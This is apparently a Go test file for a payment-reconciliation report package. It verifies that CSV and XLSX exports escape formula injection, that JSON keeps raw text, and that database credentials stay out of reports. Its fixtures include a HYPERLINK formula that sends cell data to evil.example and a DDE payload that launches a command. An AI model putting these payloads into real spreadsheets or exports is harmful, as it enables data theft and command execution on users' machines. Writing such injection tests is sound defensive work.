package reports_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/payrecon/payrecon"
	"github.com/payrecon/payrecon/reports"
)

var hostile = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"点击查看")`,
	"+1",
	"-2+3",
	"@SUM(A1:A9)",
	"\tx",
	"\r=x",
	"＝1+1",
}

// hostileFixture puts formula-like text wherever providers, callbacks and
// operators supply it.
func hostileFixture() *fixture {
	fx := newFixture()
	items := fx.items[11]
	for i, h := range hostile {
		it := &items[i%len(items)]
		switch i % 3 {
		case 0:
			it.Product = h
		case 1:
			it.Note = h
		case 2:
			it.MerchantOrderNo = h
		}
	}
	items[0].ProviderTxnNo = "-4200001"
	fx.actions[0].Item = items[0]
	fx.actions[0].DiscrepancyKey = items[0].Key()
	fx.actions[0].Reason = "=cmd|' /C calc'!A0"
	fx.actions[0].Result = "@evil"
	fx.audit[101][0].At, fx.audit[101][0].Actor = time.Time{}, "=evil" // the trail's cell starts with it
	fx.runs[0].Bills[0].Name = "=bill.csv"
	return fx
}

func isFormulaLike(s string) bool {
	return reports.EscapeFormula(s) != s
}

func TestEscapeFormula(t *testing.T) {
	for _, h := range hostile {
		if got := reports.EscapeFormula(h); got != "'"+h {
			t.Errorf("EscapeFormula(%q) = %q", h, got)
		}
	}
	for _, s := range []string{"", "会员月卡", "a=b", "1+1", "'=x", " =x"} {
		if got := reports.EscapeFormula(s); got != s {
			t.Errorf("EscapeFormula(%q) = %q, want unchanged", s, got)
		}
	}
}

// TestFormulaInjectionXLSX: hostile text comes back from every sheet with a
// leading apostrophe; the only cells that start with '-' or '+' are numbers,
// and the workbook has no formula at all.
func TestFormulaInjectionXLSX(t *testing.T) {
	data := writeXLSX(t, hostileFixture().source(), reports.Options{})
	f := openBook(t, data)
	found := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				for _, h := range append(hostile, "=cmd|' /C calc'!A0", "@evil", "=bill.csv", "-4200001") {
					if v == "'"+h {
						found[h] = true
					}
				}
				if isFormulaLike(v) {
					if _, err := strconv.ParseFloat(v, 64); err != nil {
						t.Errorf("%s row %d col %d: unescaped %q", sheet, r+1, c+1, v)
					}
				}
				if strings.HasPrefix(v, "'=bill.csv  SHA-256 ") {
					found["=bill.csv"] = true
				}
				if strings.HasPrefix(v, "'=evil proposed\n") {
					found["audit"] = true
				}
			}
		}
	}
	for _, h := range append(hostile, "=cmd|' /C calc'!A0", "@evil", "=bill.csv", "-4200001", "audit") {
		if !found[h] {
			t.Errorf("%q not found escaped in the workbook", h)
		}
	}
	for _, part := range strings.Split(zipText(t, data), "\n--- ") {
		if strings.HasPrefix(part, "xl/worksheets/sheet") && strings.Contains(part, "<f>") {
			t.Errorf("a sheet contains a formula: %.40s", part)
		}
	}
}

func TestFormulaInjectionCSV(t *testing.T) {
	var buf bytes.Buffer
	if err := reports.WriteCSV(&buf, hostileFixture().source(), reports.Options{}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	numeric := map[string]bool{}
	for _, h := range recs[0] {
		numeric[h] = strings.HasSuffix(h, "_fen") || h == "ledger_amount" || h == "bill_amount" || h == "difference" || strings.HasSuffix(h, "_fee")
	}
	for _, rec := range recs[1:] {
		for i, v := range rec {
			for _, h := range append(hostile, "-4200001") {
				if v == "'"+h {
					found[h] = true
				}
			}
			if isFormulaLike(v) && !numeric[recs[0][i]] {
				t.Errorf("column %s: unescaped %q", recs[0][i], v)
			}
		}
	}
	for _, h := range append(hostile, "-4200001") {
		if !found[h] {
			t.Errorf("%q not found escaped in the CSV", h)
		}
	}
}

// TestFormulaInjectionJSON: JSON is for programs, so text stays exactly as
// the provider sent it (the rule: escape for spreadsheets only).
func TestFormulaInjectionJSON(t *testing.T) {
	var buf bytes.Buffer
	if err := reports.WriteJSON(&buf, hostileFixture().source(), reports.Options{}); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Items   []map[string]any `json:"items"`
		Actions []map[string]any `json:"actions"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	for _, it := range doc.Items {
		for _, k := range []string{"product", "note", "merchant_order_no", "provider_txn_no"} {
			s, _ := it[k].(string)
			found[s] = true
			if strings.HasPrefix(s, "'") {
				t.Errorf("json %s escaped: %q", k, s)
			}
		}
	}
	for _, h := range append(hostile, "-4200001") {
		if !found[h] {
			t.Errorf("%q not found raw in the JSON", h)
		}
	}
	if doc.Actions[0]["reason"] != "=cmd|' /C calc'!A0" {
		t.Errorf("action reason %v", doc.Actions[0]["reason"])
	}
}

// TestNoSecretsInReports: a run's error text can hold a DSN; no report
// shows it. And no type a report reads has a Secret field, so keys cannot
// reach a report by a later field addition without this test failing.
func TestNoSecretsInReports(t *testing.T) {
	fx := newFixture()
	src := fx.source()
	var c, j bytes.Buffer
	if err := reports.WriteCSV(&c, src, reports.Options{}); err != nil {
		t.Fatal(err)
	}
	if err := reports.WriteJSON(&j, src, reports.Options{}); err != nil {
		t.Fatal(err)
	}
	outputs := map[string]string{
		"xlsx zh": zipText(t, writeXLSX(t, src, reports.Options{})),
		"xlsx en": zipText(t, writeXLSX(t, src, reports.Options{Lang: "en"})),
		"csv":     c.String(),
		"json":    j.String(),
	}
	if !strings.Contains(fx.runs[1].Error, "hunter2") {
		t.Fatal("fixture lost its secret")
	}
	for name, out := range outputs {
		if strings.Contains(out, "hunter2") || strings.Contains(out, "10.0.0.1") {
			t.Errorf("%s contains the DSN from a run error", name)
		}
	}
	secret := reflect.TypeOf(payrecon.Secret{})
	var walk func(reflect.Type, string)
	seen := map[reflect.Type]bool{}
	walk = func(tp reflect.Type, path string) {
		if seen[tp] {
			return
		}
		seen[tp] = true
		switch tp.Kind() {
		case reflect.Struct:
			if tp == secret {
				t.Errorf("%s is a payrecon.Secret: reports must not read it", path)
				return
			}
			for i := 0; i < tp.NumField(); i++ {
				walk(tp.Field(i).Type, path+"."+tp.Field(i).Name)
			}
		case reflect.Slice, reflect.Array, reflect.Pointer, reflect.Map:
			walk(tp.Elem(), path+"[]")
		}
	}
	walk(reflect.TypeOf(reports.Source{}), "Source")
	for _, tp := range []any{payrecon.Run{}, payrecon.Item{}, payrecon.Action{}, payrecon.AuditEntry{}} {
		walk(reflect.TypeOf(tp), reflect.TypeOf(tp).Name())
	}
}
